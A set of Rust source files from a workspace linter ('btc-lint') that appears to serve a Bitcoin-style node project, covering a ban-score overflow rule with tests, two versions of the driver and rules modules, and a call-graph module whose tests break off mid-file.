                    out.push(Finding::new(
                        &sf.path,
                        prev.line,
                        SCORE_ARITH,
                        arith_message(op, &prev.text),
                    ));
                }
            }
            _ => {}
        }
    }
}

fn arith_message(op: &str, field: &str) -> String {
    format!(
        "bare `{op}` on score/sim-time field `{field}` can wrap under adversarial input; \
         use `saturating_*`/`checked_*`, or justify clamped float arithmetic with \
         `lint:allow(score-arith): <reason>`"
    )
}

/// Whether the `=` at `i` is a plain assignment (not `==`, `!=`, `<=`, `>=`,
/// or the tail of a compound operator).
fn is_plain_assign(toks: &[Token], i: usize) -> bool {
    if toks.get(i + 1).map(|n| n.text.as_str()) == Some("=") {
        return false;
    }
    let Some(prev) = i.checked_sub(1).map(|p| &toks[p]) else {
        return false;
    };
    !(prev.kind == TokKind::Punct
        && matches!(
            prev.text.as_str(),
            "+" | "-" | "*" | "/" | "%" | "&" | "|" | "^" | "<" | ">" | "!" | "="
        ))
}

/// Scans the right-hand side from `start` to the terminating `;` for a
/// *binary* `+`/`-`/`*` (previous token is a value: ident, number, `)` or
/// `]`), skipping `->` arrows. Returns the operator.
fn bare_arith_in_rhs(toks: &[Token], start: usize) -> Option<&'static str> {
    let mut depth = 0i32;
    let mut j = start;
    while j < toks.len() {
        let t = &toks[j];
        match t.text.as_str() {
            "(" | "[" | "{" => depth += 1,
            ")" | "]" | "}" => {
                depth -= 1;
                if depth < 0 {
                    return None; // statement ended via enclosing block
                }
            }
            ";" if depth == 0 => return None,
            op @ ("+" | "-" | "*") if t.kind == TokKind::Punct => {
                let binary = j > start
                    && matches!(
                        (toks[j - 1].kind, toks[j - 1].text.as_str()),
                        (TokKind::Ident, text) if !is_keywordish(text)
                    )
                    || matches!(toks[j - 1].kind, TokKind::Num)
                    || matches!(toks[j - 1].text.as_str(), ")" | "]");
                let arrow = op == "-" && toks.get(j + 1).map(|n| n.text.as_str()) == Some(">");
                let compound = toks.get(j + 1).map(|n| n.text.as_str()) == Some("=");
                if binary && !arrow && !compound {
                    let op_static = match op {
                        "+" => "+",
                        "-" => "-",
                        _ => "*",
                    };
                    return Some(op_static);
                }
            }
            _ => {}
        }
        j += 1;
    }
    None
}

/// Idents that end an expression *syntactically* but are not values.
fn is_keywordish(text: &str) -> bool {
    matches!(text, "return" | "as" | "in" | "if" | "else" | "match")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex;

    fn run(src: &str) -> Vec<Finding> {
        let sf = lex("t.rs", src);
        let mut out = Vec::new();
        score_arith(&sf, &mut out);
        out
    }

    #[test]
    fn compound_ops_on_score_fields_flagged() {
        let f = run("rep.strikes += points;\nself.tokens -= 1.0;\nrep.credit *= 2;\n");
        assert_eq!(f.len(), 3);
        assert!(f[0].message.contains("`+`"));
        assert!(f[1].message.contains("`-`"));
        assert!(f[2].message.contains("`*`"));
    }

    #[test]
    fn compound_on_other_fields_not_flagged() {
        let f = run("self.count += 1;\nbuf_len -= n;\n");
        assert!(f.is_empty());
    }

    #[test]
    fn plain_assign_with_bare_addition_flagged() {
        let f = run("rep.graylist_until = now + cfg.graylist_duration;\n");
        assert_eq!(f.len(), 1);
        assert!(f[0].message.contains("graylist_until"));
    }

    #[test]
    fn saturating_forms_not_flagged() {
        let f = run(
            "rep.strikes = rep.strikes.saturating_add(points);\n\
             rep.graylist_until = now.saturating_add(cfg.graylist_duration);\n",
        );
        assert!(f.is_empty());
    }

    #[test]
    fn unary_minus_and_comparisons_not_flagged() {
        let f = run("score = -1;\nlet hot = score == a;\nif score <= b { }\n");
        assert!(f.is_empty());
    }

    #[test]
    fn assignment_to_non_field_not_flagged() {
        let f = run("let x = score + 1;\ntotal_len = a + b;\n");
        // `x` is not a score field; `total_len` is not either (suffix match
        // is only for the `until` deadline family).
        assert!(f.is_empty());
    }

    #[test]
    fn until_suffix_family_flagged() {
        let f = run("rep.banned_until = now + secs;\n");
        assert_eq!(f.len(), 1);
    }

    #[test]
    fn test_code_exempt() {
        let f = run("#[cfg(test)]\nmod tests {\n    fn t() { rep.strikes += 1; }\n}\n");
        assert!(f.is_empty());
    }
}
