//! The rule set. Token-pattern rules are pure functions from a lexed
//! [`crate::lexer::SourceFile`] to findings; the call-graph-aware rules
//! (transitive scopes, `rng-stream`, `lock-order`) take the whole
//! [`Workspace`]. Scoping (which files a rule sees) lives in the driver, and
//! so does suppression — rules report everything outside test code, the
//! driver matches markers/allowlist entries and feeds the stale-exemption
//! audit from what actually fired.

pub mod alloc;
pub mod ban_rules;
pub mod casts;
pub mod determinism;
pub mod lock_order;
pub mod panics;
pub mod rng_stream;
pub mod score_arith;
pub mod transitive;

use crate::callgraph::Graph;
use crate::lexer::SourceFile;
use crate::parse::{FnItem, ParsedFile};
use crate::symbols::Index;

/// Everything the cross-file rules need, borrowed from the driver. The four
/// slices are parallel (same file order the index and graph were built
/// with).
pub struct Workspace<'a> {
    /// Workspace-relative paths.
    pub rels: &'a [String],
    /// Lexed files.
    pub files: &'a [SourceFile],
    /// Parsed item surfaces.
    pub parsed: &'a [ParsedFile],
    /// Symbol index.
    pub index: &'a Index,
    /// Call graph.
    pub graph: &'a Graph,
}

impl<'a> Workspace<'a> {
    /// The function item behind def id `d`.
    pub fn fn_of(&self, d: usize) -> &'a FnItem {
        let def = self.index.defs[d];
        &self.parsed[def.file].fns[def.item]
    }

    /// Workspace-relative path of def id `d`'s file.
    pub fn rel_of(&self, d: usize) -> &'a str {
        &self.rels[self.index.defs[d].file]
    }

    /// Lexed file of def id `d`.
    pub fn sf_of(&self, d: usize) -> &'a SourceFile {
        &self.files[self.index.defs[d].file]
    }

    /// Chain label for def id `d`: `file.rs:fn_name` (basename only, the
    /// finding already carries the full path).
    pub fn label(&self, d: usize) -> String {
        let rel = self.rel_of(d);
        let base = rel.rsplit('/').next().unwrap_or(rel);
        format!("{}:{}", base, self.fn_of(d).name)
    }

    /// File index for a workspace-relative path.
    pub fn file_idx(&self, rel: &str) -> Option<usize> {
        self.rels.iter().position(|r| r == rel)
    }

    /// Root→`def` chain labels from a forward [`Graph::reach`] map.
    pub fn chain_from(
        &self,
        parents: &std::collections::BTreeMap<usize, Option<(usize, u32)>>,
        def: usize,
    ) -> Vec<String> {
        self.graph.chain(parents, def, &|d| self.label(d))
    }

    /// All def ids in `rel`, filtered to non-test functions.
    pub fn defs_in_file(&self, rel: &str) -> Vec<usize> {
        let Some(fi) = self.file_idx(rel) else {
            return Vec::new();
        };
        (0..self.parsed[fi].fns.len())
            .filter(|&item| !self.parsed[fi].fns[item].is_test)
            .filter_map(|item| self.index.def_id(fi, item))
            .collect()
    }
}
