//! The rule set. Each token-pattern rule is a pure function from a lexed
//! [`crate::lexer::SourceFile`] to findings; scoping (which files a rule
//! sees) lives in the driver, suppression (test code, inline markers) in the
//! rules themselves so fixtures exercise it.

pub mod alloc;
pub mod ban_rules;
pub mod casts;
pub mod determinism;
pub mod panics;
