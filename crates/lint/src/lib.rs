//! btc-lint — the workspace's own static-analysis pass.
//!
//! A multi-pass analyzer, not a grep: every `.rs` file under `crates/`,
//! `src/`, `tests/` and `examples/` is lexed, parsed to its item surface
//! (functions, impl blocks, calls, `use` imports), indexed, and linked into
//! a conservative workspace call graph. Rules come in three layers:
//!
//! | rule             | scope                             | what it enforces                     |
//! |------------------|-----------------------------------|--------------------------------------|
//! | `wallclock`      | whole workspace (+ transitive)    | no `Instant::now`/`SystemTime::now`/ |
//! |                  |                                   | `RandomState`; no sim-crate call     |
//! |                  |                                   | chain into exempted wall-clock reads |
//! | `unordered-map`  | sim-deterministic crates          | no `HashMap`/`HashSet`               |
//! | `panic-path`     | peer-input files + transitive     | no unwrap/expect/panic!/`[i]` on     |
//! |                  |                                   | (or reachable from) peer bytes       |
//! | `narrowing-cast` | wire parse files                  | no `as u8/u16/u32`                   |
//! | `hot-path-alloc` | receive-path files + transitive   | no `to_vec()`/`copy_from_slice`/     |
//! |                  |                                   | `Vec::new` on the steady-state path  |
//! | `score-arith`    | `crates/node/src/banscore/`       | saturating/checked score arithmetic  |
//! | `rng-stream`     | RNG roots + reachable fns         | draws stay on the owning salted      |
//! |                  |                                   | stream; `SimRng::new` is salted      |
//! | `lock-order`     | par + netsim + detect serve       | Mutex acquisitions follow the        |
//! |                  |                                   | declared total order                 |
//! | `ban-exhaustive` | message.rs / rules.rs / node.rs   | Table I covers all 26 types          |
//! | `stale-allow`    | markers + lint-allow.txt          | every exemption still suppresses     |
//! |                  |                                   | something                            |
//!
//! Exemptions are explicit and audited: inline `lint:allow(<rule>): <reason>`
//! markers for single lines, `crates/lint/lint-allow.txt` path prefixes for
//! whole files/trees. Suppression happens here in the driver — rules report
//! everything outside test code, the driver matches exemptions and tracks
//! which ones actually fire, so a stale exemption is itself a finding.
//! Findings print as `file:line:rule: message [chain]`; `--json` emits the
//! same plus call-graph resolution stats.

pub mod callgraph;
pub mod findings;
pub mod lexer;
pub mod parse;
pub mod rules;
pub mod scope;
pub mod symbols;

use callgraph::Graph;
use findings::Finding;
use lexer::SourceFile;
use parse::ParsedFile;
use rules::Workspace;
use scope::Allowlist;
use std::path::{Path, PathBuf};
use symbols::Index;

/// Directory names never descended into.
const SKIP_DIRS: &[&str] = &["target", "fixtures"];

/// Top-level directories scanned under the workspace root.
const SCAN_ROOTS: &[&str] = &["crates", "src", "tests", "examples"];

/// The full analysis result: findings plus call-graph accounting.
pub struct Analysis {
    /// Sorted, deduplicated, exemption-filtered findings.
    pub findings: Vec<Finding>,
    /// Call-graph resolution stats (for `--json` and DESIGN.md honesty).
    pub stats: callgraph::Stats,
}

/// Runs every rule over the workspace at `root`.
pub fn analyze(root: &Path) -> Analysis {
    let (allow, allow_findings) = Allowlist::load(root);

    // Pass 1: collect + lex + parse.
    let mut rels: Vec<String> = Vec::new();
    let mut files: Vec<SourceFile> = Vec::new();
    let mut parsed: Vec<ParsedFile> = Vec::new();
    let mut io_findings: Vec<Finding> = Vec::new();
    for path in collect_rs_files(root) {
        let rel = relative_path(root, &path);
        let Ok(src) = std::fs::read_to_string(&path) else {
            io_findings.push(Finding::new(&rel, 1, "io", "file vanished or is not UTF-8"));
            continue;
        };
        let sf = lexer::lex(&rel, &src);
        parsed.push(parse::parse(&sf));
        rels.push(rel);
        files.push(sf);
    }

    // Pass 2: symbol index + call graph.
    let index = Index::build(rels.iter().map(String::as_str).zip(parsed.iter()));
    let parsed_refs: Vec<&ParsedFile> = parsed.iter().collect();
    let graph = Graph::build(&index, &parsed_refs);
    let ws = Workspace { rels: &rels, files: &files, parsed: &parsed, index: &index, graph: &graph };

    // Pass 3: rules. Everything lands in `raw`; suppression comes after.
    let mut raw: Vec<Finding> = Vec::new();
    for (fi, rel) in rels.iter().enumerate() {
        let sf = &files[fi];
        for &line in &sf.bad_marker_lines {
            raw.push(Finding::new(
                rel,
                line,
                "allow-marker",
                "`lint:allow` marker without a reason; write `lint:allow(<rule>): <why>`",
            ));
        }
        rules::determinism::wallclock(sf, &mut raw);
        if scope::in_sim_deterministic(rel) {
            rules::determinism::unordered_map(sf, &mut raw);
        }
        if scope::is_peer_input(rel) {
            rules::panics::panic_path(sf, &mut raw);
        }
        if scope::is_wire_parse(rel) {
            rules::casts::narrowing_cast(sf, &mut raw);
        }
        if scope::is_recv_path(rel) {
            rules::alloc::hot_path_alloc(sf, &mut raw);
        }
        if rel.starts_with(scope::SCORE_ARITH_SCOPE) {
            rules::score_arith::score_arith(sf, &mut raw);
        }
    }
    rules::transitive::panic_path_transitive(&ws, &mut raw);
    rules::transitive::hot_path_alloc_transitive(&ws, &mut raw);
    rules::transitive::wallclock_transitive(&ws, &allow, &mut raw);
    rules::rng_stream::rng_stream(&ws, &mut raw);
    rules::lock_order::lock_order(&ws, &mut raw);

    match (ws.file_idx("crates/wire/src/message.rs"),
           ws.file_idx("crates/node/src/banscore/rules.rs"),
           ws.file_idx("crates/node/src/node.rs"))
    {
        (Some(m), Some(r), Some(n)) => {
            rules::ban_rules::ban_exhaustive(&files[m], &files[r], &files[n], &mut raw);
        }
        _ => {
            raw.push(Finding::new(
                "crates",
                1,
                rules::ban_rules::BAN_EXHAUSTIVE,
                "missing one of message.rs / banscore/rules.rs / node.rs; \
                 the ban-decision cross-check could not run",
            ));
        }
    }

    // Pass 4: suppression + stale-exemption audit. A finding survives unless
    // an inline marker (same line or the line above, matching rule) or an
    // allowlist path-prefix entry covers it; every exemption that fires is
    // marked used, and unused ones become `stale-allow` findings.
    let mut marker_used: Vec<Vec<bool>> =
        files.iter().map(|sf| vec![false; sf.markers.len()]).collect();
    let mut entry_used: Vec<bool> = vec![false; allow.entries().len()];

    let mut all: Vec<Finding> = allow_findings;
    all.extend(io_findings);
    for f in raw {
        let fi = ws.file_idx(&f.file);
        let marker = fi.and_then(|fi| {
            files[fi]
                .markers
                .iter()
                .position(|m| m.rule == f.rule && (m.line == f.line || m.line + 1 == f.line))
                .map(|mi| (fi, mi))
        });
        if let Some((fi, mi)) = marker {
            marker_used[fi][mi] = true;
            continue;
        }
        if let Some(ei) = allow
            .entries()
            .iter()
            .position(|e| e.rule == f.rule && f.file.starts_with(&e.path))
        {
            entry_used[ei] = true;
            continue;
        }
        all.push(f);
    }

    for (fi, used) in marker_used.iter().enumerate() {
        for (mi, &u) in used.iter().enumerate() {
            let m = &files[fi].markers[mi];
            if u || files[fi].in_test(m.line) {
                continue;
            }
            all.push(Finding::new(
                &rels[fi],
                m.line,
                "stale-allow",
                format!(
                    "`lint:allow({})` suppresses nothing (the {} rule no longer fires here); \
                     remove the marker",
                    m.rule, m.rule
                ),
            ));
        }
    }
    for (ei, &u) in entry_used.iter().enumerate() {
        if u {
            continue;
        }
        let e = &allow.entries()[ei];
        all.push(Finding::new(
            "crates/lint/lint-allow.txt",
            e.line,
            "stale-allow",
            format!(
                "allowlist entry `{} {}` exempts nothing (the rule no longer fires under \
                 that prefix); remove the entry",
                e.rule, e.path
            ),
        ));
    }

    all.sort();
    all.dedup();
    Analysis { findings: all, stats: graph.stats }
}

/// Runs every rule over the workspace at `root` and returns sorted findings.
/// An empty result means the workspace is lint-clean.
pub fn run(root: &Path) -> Vec<Finding> {
    analyze(root).findings
}

/// Every `.rs` file under the scan roots, sorted for deterministic output.
fn collect_rs_files(root: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for dir in SCAN_ROOTS {
        walk(&root.join(dir), &mut out);
    }
    out.sort();
    out
}

fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() {
            let skip = path
                .file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| SKIP_DIRS.contains(&n));
            if !skip {
                walk(&path, out);
            }
        } else if path.extension().and_then(|e| e.to_str()) == Some("rs") {
            out.push(path);
        }
    }
}

/// `path` relative to `root`, `/`-separated regardless of platform.
fn relative_path(root: &Path, path: &Path) -> String {
    let rel = path.strip_prefix(root).unwrap_or(path);
    rel.components()
        .map(|c| c.as_os_str().to_string_lossy())
        .collect::<Vec<_>>()
        .join("/")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn relative_path_is_slash_separated() {
        let root = Path::new("/ws");
        let p = Path::new("/ws/crates/wire/src/message.rs");
        assert_eq!(relative_path(root, p), "crates/wire/src/message.rs");
    }
}
