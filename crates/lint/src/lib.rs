//! btc-lint — the workspace's own static-analysis pass.
//!
//! Lexes every `crates/**/*.rs` file (skipping build output and lint test
//! fixtures) and applies five scoped token-pattern rules plus one
//! cross-file rule:
//!
//! | rule             | scope                             | what it enforces              |
//! |------------------|-----------------------------------|-------------------------------|
//! | `wallclock`      | whole workspace                   | no `Instant::now` /           |
//! |                  |                                   | `SystemTime::now` /           |
//! |                  |                                   | `RandomState`                 |
//! | `unordered-map`  | sim-deterministic crates          | no `HashMap`/`HashSet`        |
//! | `panic-path`     | peer-input files                  | no unwrap/expect/panic!/`[i]` |
//! | `narrowing-cast` | wire parse files                  | no `as u8/u16/u32`            |
//! | `hot-path-alloc` | receive-path files                | no `to_vec()` /               |
//! |                  |                                   | `copy_from_slice` /           |
//! |                  |                                   | `Vec::new`                    |
//! | `ban-exhaustive` | message.rs / rules.rs / node.rs   | Table I covers all 26 types   |
//!
//! Exemptions are explicit and audited: inline `lint:allow(<rule>): <reason>`
//! markers for single lines, `crates/lint/lint-allow.txt` for whole files.
//! Test code (`#[cfg(test)]` / `#[test]` items) is exempt from the
//! token-pattern rules. Findings print as `file:line:rule: message`.

pub mod findings;
pub mod lexer;
pub mod rules;
pub mod scope;

use findings::Finding;
use lexer::SourceFile;
use scope::Allowlist;
use std::path::{Path, PathBuf};

/// Directory names never descended into.
const SKIP_DIRS: &[&str] = &["target", "fixtures"];

/// Runs every rule over the workspace at `root` and returns sorted findings.
/// An empty result means the workspace is lint-clean.
pub fn run(root: &Path) -> Vec<Finding> {
    let (allow, mut all) = Allowlist::load(root);
    let mut ban_files: [Option<SourceFile>; 3] = [None, None, None];

    for path in collect_rs_files(&root.join("crates")) {
        let rel = relative_path(root, &path);
        let Ok(src) = std::fs::read_to_string(&path) else {
            all.push(Finding::new(&rel, 1, "io", "file vanished or is not UTF-8"));
            continue;
        };
        let sf = lexer::lex(&rel, &src);

        let mut file_findings = Vec::new();
        for &line in &sf.bad_marker_lines {
            file_findings.push(Finding::new(
                &rel,
                line,
                "allow-marker",
                "`lint:allow` marker without a reason; write `lint:allow(<rule>): <why>`",
            ));
        }
        rules::determinism::wallclock(&sf, &mut file_findings);
        if scope::in_sim_deterministic(&rel) {
            rules::determinism::unordered_map(&sf, &mut file_findings);
        }
        if scope::is_peer_input(&rel) {
            rules::panics::panic_path(&sf, &mut file_findings);
        }
        if scope::is_wire_parse(&rel) {
            rules::casts::narrowing_cast(&sf, &mut file_findings);
        }
        if scope::is_recv_path(&rel) {
            rules::alloc::hot_path_alloc(&sf, &mut file_findings);
        }
        all.extend(
            file_findings
                .into_iter()
                .filter(|f| !allow.allows(f.rule, &rel)),
        );

        match rel.as_str() {
            "crates/wire/src/message.rs" => ban_files[0] = Some(sf),
            "crates/node/src/banscore/rules.rs" => ban_files[1] = Some(sf),
            "crates/node/src/node.rs" => ban_files[2] = Some(sf),
            _ => {}
        }
    }

    match ban_files {
        [Some(msg_sf), Some(rules_sf), Some(node_sf)] => {
            rules::ban_rules::ban_exhaustive(&msg_sf, &rules_sf, &node_sf, &mut all);
        }
        _ => {
            all.push(Finding::new(
                "crates",
                1,
                rules::ban_rules::BAN_EXHAUSTIVE,
                "missing one of message.rs / banscore/rules.rs / node.rs; \
                 the ban-decision cross-check could not run",
            ));
        }
    }

    all.sort();
    all.dedup();
    all
}

/// Every `.rs` file under `dir`, sorted for deterministic output.
fn collect_rs_files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    walk(dir, &mut out);
    out.sort();
    out
}

fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() {
            let skip = path
                .file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| SKIP_DIRS.contains(&n));
            if !skip {
                walk(&path, out);
            }
        } else if path.extension().and_then(|e| e.to_str()) == Some("rs") {
            out.push(path);
        }
    }
}

/// `path` relative to `root`, `/`-separated regardless of platform.
fn relative_path(root: &Path, path: &Path) -> String {
    let rel = path.strip_prefix(root).unwrap_or(path);
    rel.components()
        .map(|c| c.as_os_str().to_string_lossy())
        .collect::<Vec<_>>()
        .join("/")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn relative_path_is_slash_separated() {
        let root = Path::new("/ws");
        let p = Path::new("/ws/crates/wire/src/message.rs");
        assert_eq!(relative_path(root, p), "crates/wire/src/message.rs");
    }
}
