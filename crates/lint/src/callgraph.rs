//! Workspace call graph: resolution heuristics over the symbol index, plus
//! reachability with parent chains for the transitive-scope rules.
//!
//! Resolution is deliberately conservative: an edge is added only when the
//! callee is *unambiguous* under the heuristics below. Everything else is
//! counted (never silently dropped) in [`Stats`] so `--json` output and
//! DESIGN.md can state exactly how much of the graph is heuristic-blind:
//!
//! * `recv.name(..)` with `recv == self` → `(enclosing impl type, name)` in
//!   the qualified index, falling back to a workspace-unique bare name;
//! * `recv.name(..)` otherwise → workspace-unique bare name;
//! * `Type::name(..)` → `(Type, name)` qualified (with `Self` mapped to the
//!   caller's impl type), falling back to a workspace-unique bare name
//!   (covers `crate::module::free_fn(..)` paths);
//! * `name(..)` → unique definition in the same file, then workspace-unique.
//!
//! Enum-variant constructors (`Some(x)`, `Message::Ping(n)`) lex like calls;
//! they resolve to nothing and land in `unknown` — noise in the stats, never
//! a bogus edge.

use crate::parse::{Call, CallKind, ParsedFile};
use crate::symbols::Index;
use std::collections::BTreeMap;

/// One resolved call edge.
#[derive(Clone, Copy, Debug)]
pub struct Edge {
    /// Callee def id.
    pub callee: usize,
    /// 1-based line of the call site.
    pub line: u32,
}

/// Resolution accounting: every call is resolved, ambiguous, or unknown.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Stats {
    /// Function definitions in the graph.
    pub functions: usize,
    /// Resolved call edges.
    pub edges: usize,
    /// Calls whose name matched more than one definition (no edge added).
    pub ambiguous: usize,
    /// Calls matching no workspace definition (std, macros-as-calls,
    /// enum-variant constructors).
    pub unknown: usize,
}

/// The workspace call graph.
#[derive(Debug, Default)]
pub struct Graph {
    /// Outgoing edges per def id.
    pub edges: Vec<Vec<Edge>>,
    /// Resolution accounting.
    pub stats: Stats,
}

enum Resolution {
    Def(usize),
    Ambiguous,
    Unknown,
}

impl Graph {
    /// Builds the graph over the same file order the index was built with.
    pub fn build(index: &Index, parsed: &[&ParsedFile]) -> Graph {
        let mut g = Graph {
            edges: vec![Vec::new(); index.defs.len()],
            stats: Stats { functions: index.defs.len(), ..Stats::default() },
        };
        for (id, def) in index.defs.iter().enumerate() {
            let f = &parsed[def.file].fns[def.item];
            for call in &f.calls {
                match resolve(index, def.file, f.impl_type.as_deref(), call) {
                    Resolution::Def(callee) => {
                        g.stats.edges += 1;
                        g.edges[id].push(Edge { callee, line: call.line });
                    }
                    Resolution::Ambiguous => g.stats.ambiguous += 1,
                    Resolution::Unknown => g.stats.unknown += 1,
                }
            }
        }
        g
    }

    /// Forward BFS from `roots`. Returns `def id → parent` where a parent is
    /// `None` for roots and `Some((caller def, call line))` otherwise. Defs
    /// for which `stop` returns true are never expanded *through* (their own
    /// entry is still recorded, so rules can treat them as boundaries).
    pub fn reach(
        &self,
        roots: &[usize],
        stop: &dyn Fn(usize) -> bool,
    ) -> BTreeMap<usize, Option<(usize, u32)>> {
        let mut parents: BTreeMap<usize, Option<(usize, u32)>> = BTreeMap::new();
        let mut queue: Vec<usize> = Vec::new();
        for &r in roots {
            if parents.insert(r, None).is_none() {
                queue.push(r);
            }
        }
        let mut head = 0;
        while head < queue.len() {
            let d = queue[head];
            head += 1;
            if stop(d) && parents[&d].is_some() {
                continue;
            }
            for e in &self.edges[d] {
                if let std::collections::btree_map::Entry::Vacant(v) =
                    parents.entry(e.callee)
                {
                    v.insert(Some((d, e.line)));
                    queue.push(e.callee);
                }
            }
        }
        parents
    }

    /// Reverse BFS: for every def that can reach a member of `targets`,
    /// records the next hop *toward* the target (`None` for targets
    /// themselves). Used to render "this call eventually hits X" chains.
    pub fn reach_reverse(&self, targets: &[usize]) -> BTreeMap<usize, Option<(usize, u32)>> {
        let mut rev: Vec<Vec<Edge>> = vec![Vec::new(); self.edges.len()];
        for (caller, outs) in self.edges.iter().enumerate() {
            for e in outs {
                rev[e.callee].push(Edge { callee: caller, line: e.line });
            }
        }
        let mut next: BTreeMap<usize, Option<(usize, u32)>> = BTreeMap::new();
        let mut queue: Vec<usize> = Vec::new();
        for &t in targets {
            if next.insert(t, None).is_none() {
                queue.push(t);
            }
        }
        let mut head = 0;
        while head < queue.len() {
            let d = queue[head];
            head += 1;
            for e in &rev[d] {
                if let std::collections::btree_map::Entry::Vacant(v) = next.entry(e.callee) {
                    // From e.callee (a caller of d), the next hop toward the
                    // target is d via the call at e.line.
                    v.insert(Some((d, e.line)));
                    queue.push(e.callee);
                }
            }
        }
        next
    }

    /// Renders the root→`def` chain from a forward [`Graph::reach`] parent
    /// map as `file.rs:fn_name` labels.
    pub fn chain(
        &self,
        parents: &BTreeMap<usize, Option<(usize, u32)>>,
        def: usize,
        label: &dyn Fn(usize) -> String,
    ) -> Vec<String> {
        let mut rev = vec![label(def)];
        let mut cur = def;
        while let Some(Some((parent, _))) = parents.get(&cur) {
            cur = *parent;
            rev.push(label(cur));
            if rev.len() > 64 {
                break; // cycle guard; chains this long are useless anyway
            }
        }
        rev.reverse();
        rev
    }

    /// Renders the `def`→target chain from a [`Graph::reach_reverse`] map.
    pub fn chain_to_target(
        &self,
        next: &BTreeMap<usize, Option<(usize, u32)>>,
        def: usize,
        label: &dyn Fn(usize) -> String,
    ) -> Vec<String> {
        let mut out = vec![label(def)];
        let mut cur = def;
        while let Some(Some((hop, _))) = next.get(&cur) {
            cur = *hop;
            out.push(label(cur));
            if out.len() > 64 {
                break;
            }
        }
        out
    }
}

fn unique(v: Option<&Vec<usize>>) -> Resolution {
    match v {
        Some(ids) if ids.len() == 1 => Resolution::Def(ids[0]),
        Some(ids) if ids.len() > 1 => Resolution::Ambiguous,
        _ => Resolution::Unknown,
    }
}

/// Method names the std prelude/collections own: a `recv.name(..)` with one
/// of these names almost always targets std, even when the workspace happens
/// to define the name exactly once (e.g. a bench harness `iter`). The
/// bare-name *fallback* treats them as ambiguous — a qualified `self` match
/// still resolves normally.
const STD_METHODS: &[&str] = &[
    "iter", "iter_mut", "into_iter", "next", "next_back", "get", "get_mut", "insert", "remove",
    "push", "pop", "len", "is_empty", "clear", "contains", "contains_key", "extend", "clone",
    "to_vec", "to_string", "to_owned", "as_str", "as_bytes", "as_slice", "as_ref", "as_mut",
    "split", "split_at", "chars", "map", "filter", "fold", "collect", "sum", "min", "max",
    "sort", "sort_by", "sort_by_key", "sort_unstable", "binary_search", "drain", "retain",
    "entry", "keys", "values", "write", "read", "flush", "send", "recv", "join", "take",
    "replace", "swap", "abs", "sqrt", "floor", "ceil", "round", "zip", "enumerate", "rev",
    "chain", "count", "position", "find", "any", "all", "last", "first", "starts_with",
    "ends_with", "trim", "parse", "cmp", "eq", "fmt", "default", "new", "resize", "truncate",
    "windows", "chunks", "copied", "cloned", "unwrap_or", "unwrap_or_else", "and_then", "or",
    "or_else", "ok", "err", "is_some", "is_none", "is_ok", "is_err", "lines", "bytes",
];

fn resolve(
    index: &Index,
    caller_file: usize,
    caller_impl: Option<&str>,
    call: &Call,
) -> Resolution {
    match &call.kind {
        CallKind::Method { recv } => {
            if recv == "self" {
                if let Some(ty) = caller_impl {
                    match unique(index.by_qual.get(&(ty.to_owned(), call.name.clone()))) {
                        Resolution::Unknown => {}
                        r => return r,
                    }
                }
            }
            if STD_METHODS.contains(&call.name.as_str()) {
                return Resolution::Ambiguous;
            }
            unique(index.by_name.get(&call.name))
        }
        CallKind::Path { segments } => {
            if let Some(last) = segments.last() {
                let ty = if last == "Self" {
                    caller_impl.unwrap_or("Self").to_owned()
                } else {
                    last.clone()
                };
                match unique(index.by_qual.get(&(ty, call.name.clone()))) {
                    Resolution::Unknown => {}
                    r => return r,
                }
            }
            unique(index.by_name.get(&call.name))
        }
        CallKind::Bare => {
            // Same-file definition first (the overwhelmingly common case
            // for helpers), then workspace-unique.
            let same_file: Vec<usize> = index
                .by_name
                .get(&call.name)
                .map(|ids| {
                    ids.iter()
                        .copied()
                        .filter(|&id| index.defs[id].file == caller_file)
                        .collect()
                })
                .unwrap_or_default();
            match same_file.len() {
                1 => return Resolution::Def(same_file[0]),
                n if n > 1 => return Resolution::Ambiguous,
                _ => {}
            }
            unique(index.by_name.get(&call.name))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex;
    use crate::parse::{parse, ParsedFile};

    fn build(files: &[(&str, &str)]) -> (Index, Graph, Vec<ParsedFile>, Vec<String>) {
        let rels: Vec<String> = files.iter().map(|(r, _)| (*r).to_owned()).collect();
        let parsed: Vec<ParsedFile> = files.iter().map(|(r, s)| parse(&lex(r, s))).collect();
        let idx = Index::build(rels.iter().map(String::as_str).zip(parsed.iter()));
        let parsed_refs: Vec<&ParsedFile> = parsed.iter().collect();
        let g = Graph::build(&idx, &parsed_refs);
        (idx, g, parsed, rels)
    }

    fn name_of<'a>(idx: &Index, parsed: &'a [ParsedFile], id: usize) -> &'a str {
        let d = idx.defs[id];
        &parsed[d.file].fns[d.item].name
    }

    #[test]
    fn bare_same_file_and_cross_file_resolution() {
        let (idx, g, parsed, _) = build(&[
            ("crates/a/src/lib.rs", "fn entry() { helper(); other_crate_fn(); }\nfn helper() {}\n"),
            ("crates/b/src/lib.rs", "fn other_crate_fn() {}\n"),
        ]);
        let entry = idx.by_name["entry"][0];
        let callees: Vec<&str> = g.edges[entry]
            .iter()
            .map(|e| name_of(&idx, &parsed, e.callee))
            .collect();
        assert_eq!(callees, vec!["helper", "other_crate_fn"]);
        assert_eq!(g.stats.edges, 2);
    }

    #[test]
    fn self_method_resolves_through_impl_type() {
        let (idx, g, parsed, _) = build(&[(
            "crates/a/src/lib.rs",
            "impl A { fn run(&self) { self.step(); } fn step(&self) {} }\n\
             impl B { fn step(&self) {} }\n",
        )]);
        let run = idx.by_name["run"][0];
        assert_eq!(g.edges[run].len(), 1);
        let callee = g.edges[run][0].callee;
        let d = idx.defs[callee];
        assert_eq!(parsed[d.file].fns[d.item].impl_type.as_deref(), Some("A"));
    }

    #[test]
    fn ambiguous_method_is_counted_not_edged() {
